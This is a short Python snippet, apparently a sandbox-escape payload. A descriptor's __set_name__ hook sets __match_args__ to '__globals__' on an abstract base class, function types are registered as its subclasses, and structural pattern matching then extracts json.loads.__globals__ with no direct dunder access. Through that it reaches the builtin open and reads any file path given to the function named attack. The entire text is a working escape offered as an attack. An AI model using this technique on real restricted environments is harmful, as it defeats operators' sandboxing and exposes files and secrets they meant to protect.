# A descriptor is told of its class when that is made, and writes into it.
# after: read
# source: own
import json
from abc import ABC
class Place:
    def __set_name__(self, owner, name):
        setattr(owner, "__match_" + "args__", ("__globals__",))
class U(ABC):
    x = Place()
def attack(path, **_):
    U.register(type(json.loads))
    match json.loads:
        case U(found):
            return {"text": found["__builtins__"]["open"](path).read()}
